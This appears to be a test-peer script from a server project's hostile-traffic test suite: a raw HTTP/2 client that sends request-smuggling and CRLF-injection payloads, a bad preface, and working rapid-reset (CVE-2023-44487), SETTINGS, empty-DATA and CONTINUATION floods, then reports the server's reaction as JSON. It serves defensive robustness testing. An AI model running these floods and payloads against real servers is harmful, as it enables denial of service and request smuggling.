#!/usr/bin/env python3
"""Hostile / edge-case HTTP/2 client (h2c prior knowledge) for Fulcrum's hostile-traffic tests.

Usage:
    python3 tests/peers/h2_raw.py HOST PORT CASE [--timeout 10] [--authority A]
                                                 [--path /] [--tls] [--streams N]
                                                 [--frames N]

Speaks HTTP/2 over a plain TCP socket (prior knowledge, no Upgrade), or over
TLS with ALPN h2 and no certificate check when --tls is given, using the `h2`
state machine configured NOT to validate or normalise what it sends
(validate_outbound_headers=False, normalize_outbound_headers=False,
validate_inbound_headers=False) so malformed requests really go out.
Every case is bounded: at most --timeout seconds (default 10) overall and a
fixed number of frames; nothing loops unbounded.

CASE is one of
  ok                 GET --path (default /): expect a response
  smuggle-te         POST with `transfer-encoding: chunked` and a body that is
                     a chunked terminator followed by "GET /smuggled HTTP/1.1"
                     (a downgrade-to-HTTP/1.1 smuggling attempt)
  smuggle-cl         POST with `content-length: 5` but 20 bytes of DATA
  smuggle-crlf       GET with header `x-test: a\\r\\nX-Injected: 1`
  connection-header  GET with `connection: keep-alive`
  rst-flood          HEADERS+RST_STREAM(CANCEL) on --streams (10000) new streams
                     as fast as possible ("rapid reset", CVE-2023-44487), then one
                     plain GET to see whether the connection still serves
  settings-flood     --frames (100000) empty SETTINGS frames, never reading the
                     ACKs while sending; then reads what the server did
  bad-preface        "PRI * HTTP/2.0\\r\\n\\r\\nXX\\r\\n\\r\\n" (wrong magic) then
                     SETTINGS and a HEADERS frame
  no-window          GET --path with SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE
                     ever: the response head may come, its body cannot

Prints exactly one JSON line (compact separators) and exits 0 when the case
ran to a conclusion (whatever the server did; the *test* judges it), 2 on a
usage error or if the TCP connection could not be made. Fields:
  case, outcome   single-request cases (ok, smuggle-*, connection-header): what
                  happened to the request: "response" | "stream_reset" |
                  "goaway" | "closed" | "timeout";
                  rst-flood, settings-flood, bad-preface: what happened to the
                  connection: "goaway" | "closed" | "open" (neither, within the
                  time limit); bad-preface also "response" if the server
                  answered the request despite the bogus preface
  status          :status of the response, if any (int)
  error_code      RST_STREAM/GOAWAY error code name (e.g. "PROTOCOL_ERROR")
  goaway          {"error_code":..,"last_stream_id":..,"debug":..} or null
  closed          true if the server closed the TCP connection (EOF or reset)
  frames_received counts of frame types the server sent, e.g. {"SETTINGS":2}
  h2_error        h2's complaint about what the server sent, if any (after it,
                  only the raw frame counter reads the connection)
  elapsed_ms, plus per-case fields:
    single request: stream_id, headers, body_preview (first 512 bytes),
                    complete (END_STREAM seen)
    rst-flood:      streams_sent, responses (HEADERS frames received), resets
                    (streams RST by the server), probe {outcome,status,
                    error_code} for one GET sent after the flood,
                    still_serving (probe got a response)
    settings-flood: settings_sent (frames the kernel accepted), settings_acks
                    (includes 1 for the handshake SETTINGS), write_blocked
                    (the server stopped reading for 2 s), bytes_received
    bad-preface:    first_bytes (up to 64, latin-1), http1_response, status
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from h2.errors import ErrorCodes
from h2.settings import SettingCodes

CASES = [
    "ok", "smuggle-te", "smuggle-cl", "smuggle-crlf", "connection-header",
    "rst-flood", "settings-flood", "bad-preface", "empty-data-flood", "continuation-flood",
    "no-window",
]
FRAME_TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
               5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BAD_PREFACE = b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n"


def err_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


class Peer:
    """A socket + h2 connection + an independent raw frame counter."""

    def __init__(self, args):
        self.args = args
        self.started = time.monotonic()
        self.deadline = self.started + args.timeout
        raw = socket.create_connection((args.host, args.port), timeout=min(args.timeout, 5))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if args.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            raw = ctx.wrap_socket(raw, server_hostname=args.authority.split(":")[0])
        raw.setblocking(False)
        self.sock = raw
        cfg = h2.config.H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
            validate_inbound_headers=False,
        )
        self.conn = h2.connection.H2Connection(config=cfg)
        self.h2_ok = True  # False once h2 raised on inbound data; raw counting goes on
        self.h2_error = None
        self.closed = False
        self.close_reason = None
        self.frames = {}
        self.goaway = None
        self.rsts = {}  # stream id -> error code name (from raw frames)
        self.rbuf = b""  # raw frame parser buffer
        self.outbuf = bytearray()  # bytes not yet accepted by the socket
        self.first_bytes = b""
        self.total_in = 0
        self.events = []

    # ---- time ----
    def left(self):
        return self.deadline - time.monotonic()

    def elapsed_ms(self):
        return round((time.monotonic() - self.started) * 1000)

    # ---- raw frame accounting (independent of h2's state machine) ----
    def _count_frames(self, data):
        if len(self.first_bytes) < 64:
            self.first_bytes += data[: 64 - len(self.first_bytes)]
        self.rbuf += data
        while len(self.rbuf) >= 9:
            length = int.from_bytes(self.rbuf[0:3], "big")
            if len(self.rbuf) < 9 + length:
                break
            ftype = self.rbuf[3]
            flags = self.rbuf[4]
            sid = int.from_bytes(self.rbuf[5:9], "big") & 0x7FFFFFFF
            payload = self.rbuf[9:9 + length]
            self.rbuf = self.rbuf[9 + length:]
            name = FRAME_TYPES.get(ftype, f"0x{ftype:x}")
            if ftype == 4 and flags & 1:
                name = "SETTINGS_ACK"
            self.frames[name] = self.frames.get(name, 0) + 1
            if ftype == 7 and len(payload) >= 8 and self.goaway is None:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {"error_code": err_name(code), "last_stream_id": last & 0x7FFFFFFF,
                               "debug": payload[8:200].decode("utf-8", "replace")}
            elif ftype == 3 and len(payload) >= 4:
                self.rsts[sid] = err_name(struct.unpack(">I", payload[:4])[0])

    # ---- I/O ----
    def flush(self, block=True):
        """Send what h2 queued. Returns False if the peer is gone or we ran out of time."""
        data = self.conn.data_to_send()
        return self.send_raw(data, block)

    def send_raw(self, data, block=True):
        """Queue bytes and write them out in order (reading meanwhile, so
        neither side can deadlock on full buffers). Returns False if the
        peer is gone, we ran out of time, or (block=False) the socket is full."""
        self.outbuf += data
        while self.outbuf:
            if self.closed or self.left() <= 0:
                return False
            self._try_send()
            if not self.outbuf:
                break
            if not block:
                return False
            try:
                _, w, _ = select.select([], [self.sock], [], min(self.left(), 0.05))
            except (OSError, ValueError):
                self._mark_closed("select failed")
                return False
            if not w:
                self.pump(0)  # the server may be blocked writing to us
        return True

    def _try_send(self):
        """Non-blocking write of as much of outbuf as the socket takes."""
        while self.outbuf and not self.closed:
            try:
                n = self.sock.send(self.outbuf)
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                return
            except OSError as e:
                self._mark_closed(f"send: {type(e).__name__}")
                return
            del self.outbuf[:n]

    def _mark_closed(self, why):
        if not self.closed:
            self.closed = True
            self.close_reason = why

    def pump(self, wait):
        """Read whatever is available (waiting up to `wait` s for the first byte). Returns new h2 events."""
        new = []
        wait = max(0.0, min(wait, self.left()))
        first = True
        while not self.closed and (first or self.left() > 0):
            try:
                pending = self.sock.pending() if isinstance(self.sock, ssl.SSLSocket) else 0
                if not pending:
                    r, _, _ = select.select([self.sock], [], [], wait if first else 0)
                    if not r:
                        break
            except (OSError, ValueError):
                self._mark_closed("select failed")
                break
            first = False
            try:
                data = self.sock.recv(262144)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except (ConnectionResetError, OSError) as e:
                self._mark_closed(f"recv: {type(e).__name__}")
                break
            if not data:
                self._mark_closed("eof")
                break
            self.total_in += len(data)
            self._count_frames(data)
            if self.h2_ok:
                try:
                    evs = self.conn.receive_data(data)
                    new.extend(evs)
                except Exception as e:  # h2 refuses what the server sent
                    self.h2_ok = False
                    self.h2_error = f"{type(e).__name__}: {e}"
                    evs = []
                for ev in evs:
                    if isinstance(ev, h2.events.DataReceived) and ev.flow_controlled_length:
                        try:
                            self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                        except h2.exceptions.H2Error:
                            pass
        # Queue ACKs / window updates h2 produced; write what fits now.
        if self.h2_ok and not self.closed:
            self.outbuf += self.conn.data_to_send()
            self._try_send()
        self.events.extend(new)
        return new

    def drain(self, seconds):
        end = min(self.deadline, time.monotonic() + seconds)
        while not self.closed and time.monotonic() < end:
            self.pump(end - time.monotonic())

    def start(self, preface=True):
        # Big windows so responses on streams we reset can't stall us.
        self.conn.local_settings = h2.settings.Settings(
            client=True,
            initial_values={
                SettingCodes.INITIAL_WINDOW_SIZE: 0 if self.args.case == "no-window" else 2**24,
                SettingCodes.MAX_CONCURRENT_STREAMS: 100,
                SettingCodes.MAX_HEADER_LIST_SIZE: 2**16,
            },
        )
        self.conn.initiate_connection()
        self.conn.increment_flow_control_window(2**30)
        if preface:
            return self.flush()
        return True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def base_result(self, case):
        return {
            "case": case,
            "outcome": None,
            "status": None,
            "error_code": None,
            "goaway": self.goaway,
            "closed": self.closed,
            "close_reason": self.close_reason,
            "frames_received": self.frames,
            "h2_error": self.h2_error,
            "elapsed_ms": self.elapsed_ms(),
        }


def request_headers(args, method="GET", extra=()):
    return [
        (":method", method),
        (":scheme", "https" if args.tls else "http"),
        (":authority", args.authority),
        (":path", args.path),
        ("user-agent", "fulcrum-h2-raw/1"),
    ] + list(extra)


def single_request(p, args, case, headers, body=None, end_stream=True):
    """Send one request on stream 1 and classify what happened to it."""
    res = {}
    if not p.start():
        return finish_conn(p, case, res)
    sid = p.conn.get_next_available_stream_id()
    try:
        p.conn.send_headers(sid, headers, end_stream=(body is None and end_stream))
        if body is not None:
            p.conn.send_data(sid, body, end_stream=True)
    except h2.exceptions.H2Error as e:
        res["local_error"] = f"{type(e).__name__}: {e}"
    p.flush()

    status, resp_headers, body_in, ended, reset = None, None, b"", False, None
    while not p.closed and p.left() > 0 and not ended and reset is None:
        for ev in p.pump(p.left()):
            if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                resp_headers = [(k if isinstance(k, str) else k.decode("latin-1"),
                                 v if isinstance(v, str) else v.decode("latin-1")) for k, v in ev.headers]
                for k, v in resp_headers:
                    if k == ":status":
                        try:
                            status = int(v)
                        except ValueError:
                            status = v
            elif isinstance(ev, h2.events.DataReceived) and ev.stream_id == sid:
                if len(body_in) < 4096:
                    body_in += ev.data[: 4096 - len(body_in)]
            elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                ended = True
            elif isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                reset = err_name(ev.error_code)
        if sid in p.rsts and reset is None and not ended:
            reset = p.rsts[sid]
        if p.goaway is not None and status is None:
            break
    # Give the server a moment to follow up with GOAWAY / close.
    p.drain(0.2)

    r = p.base_result(case)
    r.update(res)
    r["stream_id"] = sid
    if status is not None:
        r["outcome"] = "response"
        r["status"] = status
        r["headers"] = resp_headers
        r["body_preview"] = body_in[:512].decode("utf-8", "replace")
        r["complete"] = ended
        if reset is not None:
            r["error_code"] = reset
    elif reset is not None:
        r["outcome"] = "stream_reset"
        r["error_code"] = reset
    elif p.goaway is not None:
        r["outcome"] = "goaway"
        r["error_code"] = p.goaway["error_code"]
    elif p.closed:
        r["outcome"] = "closed"
    else:
        r["outcome"] = "timeout"
    return r


def finish_conn(p, case, extra):
    r = p.base_result(case)
    r.update(extra)
    if p.goaway is not None:
        r["outcome"] = "goaway"
        r["error_code"] = p.goaway["error_code"]
    elif p.closed:
        r["outcome"] = "closed"
    else:
        r["outcome"] = "timeout"
    return r


def probe_request(p, args):
    """After a flood: what happens to one plain GET on this connection?

    Returns {"outcome": "response"|"stream_reset"|"goaway"|"closed"|"timeout"|
    "not_sent", "status": int|None, "error_code": str|None}."""
    out = {"outcome": "not_sent", "status": None, "error_code": None}
    if p.closed or p.goaway is not None or not p.h2_ok:
        return out
    try:
        sid = p.conn.get_next_available_stream_id()
        p.conn.send_headers(sid, request_headers(args), end_stream=True)
    except h2.exceptions.H2Error:
        return out
    p.flush()
    end = min(p.deadline, time.monotonic() + 3)
    while not p.closed and time.monotonic() < end:
        for ev in p.pump(end - time.monotonic()):
            if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                for k, v in ev.headers:
                    if k in (":status", b":status"):
                        out.update(outcome="response", status=int(v))
                        return out
        if sid in p.rsts:
            out.update(outcome="stream_reset", error_code=p.rsts[sid])
            return out
        if p.goaway is not None:
            out.update(outcome="goaway", error_code=p.goaway["error_code"])
            return out
    out["outcome"] = "closed" if p.closed else "timeout"
    return out


def case_rst_flood(p, args):
    n_target = args.streams
    sent = 0
    responses = 0
    local_error = None
    hdrs = request_headers(args)
    if p.start():
        batch = 100
        while sent < n_target and not p.closed and p.goaway is None and p.left() > 0:
            try:
                for _ in range(min(batch, n_target - sent)):
                    sid = p.conn.get_next_available_stream_id()
                    p.conn.send_headers(sid, hdrs, end_stream=True)
                    p.conn.reset_stream(sid, ErrorCodes.CANCEL)
                    sent += 1
            except h2.exceptions.H2Error as e:
                local_error = f"{type(e).__name__}: {e}"
                break
            if not p.flush():
                break
            p.pump(0)
        p.drain(0.5)
    probe = probe_request(p, args)
    p.drain(0.3)
    extra = {
        "streams_target": n_target,
        "streams_sent": sent,
        # HEADERS frames received (response heads, including the probe's)
        "responses": p.frames.get("HEADERS", 0),
        "resets": len(p.rsts),  # streams the server sent RST_STREAM for
        "probe": probe,
        "still_serving": probe["outcome"] == "response",
    }
    if local_error:
        extra["local_error"] = local_error
    r = finish_conn(p, "rst-flood", extra)
    if r["outcome"] == "timeout":
        r["outcome"] = "open"  # server neither closed nor sent GOAWAY
        r["status"] = probe["status"]
    return r


def case_settings_flood(p, args):
    n_target = args.frames
    sent = 0
    write_blocked = False
    if p.start():
        p.pump(0.2)  # let h2 ACK the server's SETTINGS before we stop listening
        p.send_raw(b"")  # and make sure that ACK is fully written
        # One empty SETTINGS frame (no ACK flag), as h2 itself serialises it.
        p.conn.update_settings({})
        frame = p.conn.data_to_send()
        assert frame == b"\x00\x00\x00\x04\x00\x00\x00\x00\x00", frame
        p.h2_ok = False  # from here on only the raw frame counter reads
        sent, write_blocked = send_flood(p, frame, n_target)
        # Now see what the server did (GOAWAY ENHANCE_YOUR_CALM / close / ACKs);
        # stop early once every frame was ACKed (+1 for the handshake SETTINGS).
        end = min(p.deadline, time.monotonic() + 3.0)
        while not p.closed and time.monotonic() < end and p.frames.get("SETTINGS_ACK", 0) < sent + 1:
            p.pump(end - time.monotonic())
        p.drain(0.2)
    extra = {
        "settings_target": n_target,
        "settings_sent": sent,  # frames the kernel accepted
        "settings_acks": p.frames.get("SETTINGS_ACK", 0),  # includes 1 for the handshake SETTINGS
        "write_blocked": write_blocked,
        "bytes_received": p.total_in,
    }
    r = finish_conn(p, "settings-flood", extra)
    if r["outcome"] == "timeout":
        r["outcome"] = "open"  # server neither closed nor sent GOAWAY
    return r


def send_flood(p, frame, n_target):
    """Writes `frame` up to n_target times without reading (plain non-blocking sends with
    a stall limit); returns how many the kernel took, and whether writing stalled."""
    sent = 0
    chunk = 1000
    buf = frame * chunk
    while sent < n_target and not p.closed and p.left() > 0:
        n = min(chunk, n_target - sent)
        view = memoryview(buf if n == chunk else frame * n)
        stall_until = time.monotonic() + 2.0
        while view and not p.closed and p.left() > 0:
            try:
                k = p.sock.send(view)
                view = view[k:]
                stall_until = time.monotonic() + 2.0
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                if time.monotonic() > stall_until:
                    break
                select.select([], [p.sock], [], 0.05)
            except OSError as e:
                p._mark_closed(f"send: {type(e).__name__}")
                break
        sent += n - (len(view) + len(frame) - 1) // len(frame)
        if view:
            return sent, not p.closed
    return sent, False


def case_frame_flood(p, args, case):
    """Opens stream 1 without ending it, then floods frames that do nothing on it:
    empty DATA frames (CVE-2019-9518), or CONTINUATION frames that never end the header
    block (the 2024 CONTINUATION flood)."""
    sent = 0
    if p.start():
        p.pump(0.2)
        p.send_raw(b"")
        block = b"\x83\x86\x84"  # :method POST, :scheme http, :path /
        if case == "empty-data-flood":
            opener = struct.pack(">I", len(block))[1:] + b"\x01\x04" + struct.pack(">I", 1) + block
            frame = b"\x00\x00\x00\x00\x00" + struct.pack(">I", 1)
        else:
            opener = struct.pack(">I", len(block))[1:] + b"\x01\x00" + struct.pack(">I", 1) + block
            junk = b"\x00" * 4096
            frame = struct.pack(">I", len(junk))[1:] + b"\x09\x00" + struct.pack(">I", 1) + junk
        p.h2_ok = False  # raw frames from here on
        p.send_raw(opener)
        sent, _ = send_flood(p, frame, args.frames)
        end = min(p.deadline, time.monotonic() + 3.0)
        while not p.closed and p.goaway is None and time.monotonic() < end:
            p.pump(end - time.monotonic())
        p.drain(0.2)
    r = finish_conn(p, case, {"frames_sent": sent})
    if r["outcome"] == "timeout":
        r["outcome"] = "open"
    return r


def case_bad_preface(p, args):
    p.conn.initiate_connection()
    data = p.conn.data_to_send()
    assert data.startswith(PREFACE)
    frames = data[len(PREFACE):]
    sid = p.conn.get_next_available_stream_id()
    p.conn.send_headers(sid, request_headers(args), end_stream=True)
    frames += p.conn.data_to_send()
    p.h2_ok = False  # the server's reply, if any, isn't for a valid h2 session
    p.send_raw(BAD_PREFACE + frames)
    p.drain(min(5.0, max(0.0, p.left())))
    fb = p.first_bytes
    extra = {
        "first_bytes": fb.decode("latin-1"),
        "http1_response": fb.startswith(b"HTTP/1."),
        "bytes_received": p.total_in,
    }
    r = finish_conn(p, "bad-preface", extra)
    if fb.startswith(b"HTTP/1."):
        try:
            r["status"] = int(fb.split(b" ", 2)[1])
        except (IndexError, ValueError):
            pass
    if p.frames.get("HEADERS"):
        r["outcome"] = "response"  # the server accepted the bogus preface
    elif r["outcome"] == "timeout":
        r["outcome"] = "open"
    return r


def run_case(args):
    p = Peer(args)
    try:
        case = args.case
        if case in ("ok", "no-window"):
            return single_request(p, args, case, request_headers(args))
        if case == "smuggle-te":
            body = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: smuggled.invalid\r\n\r\n"
            h = request_headers(args, "POST", [("transfer-encoding", "chunked")])
            return single_request(p, args, case, h, body=body)
        if case == "smuggle-cl":
            h = request_headers(args, "POST", [("content-length", "5")])
            return single_request(p, args, case, h, body=b"A" * 20)
        if case == "smuggle-crlf":
            h = request_headers(args, "GET", [("x-test", "a\r\nX-Injected: 1")])
            return single_request(p, args, case, h)
        if case == "connection-header":
            h = request_headers(args, "GET", [("connection", "keep-alive")])
            return single_request(p, args, case, h)
        if case == "rst-flood":
            return case_rst_flood(p, args)
        if case == "settings-flood":
            return case_settings_flood(p, args)
        if case == "bad-preface":
            return case_bad_preface(p, args)
        if case in ("empty-data-flood", "continuation-flood"):
            return case_frame_flood(p, args, case)
        raise AssertionError(case)
    finally:
        p.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("case", choices=CASES)
    ap.add_argument("--timeout", type=float, default=10.0, help="overall limit, seconds")
    ap.add_argument("--authority", default=None, help=":authority (default HOST:PORT)")
    ap.add_argument("--path", default="/")
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2, no cert verification")
    ap.add_argument("--streams", type=int, default=10000, help="rst-flood stream count")
    ap.add_argument("--frames", type=int, default=100000, help="settings-flood frame count")
    args = ap.parse_args()
    if args.authority is None:
        args.authority = f"{args.host}:{args.port}"
    args.streams = max(1, min(args.streams, 1_000_000))
    args.frames = max(1, min(args.frames, 10_000_000))

    started = time.monotonic()
    try:
        r = run_case(args)
    except (ConnectionRefusedError, socket.timeout, OSError) as e:
        r = {"case": args.case, "outcome": "connect_failed", "error": f"{type(e).__name__}: {e}",
             "elapsed_ms": round((time.monotonic() - started) * 1000)}
        print(json.dumps(r, separators=(",", ":")), flush=True)
        return 2
    print(json.dumps(r, separators=(",", ":")), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
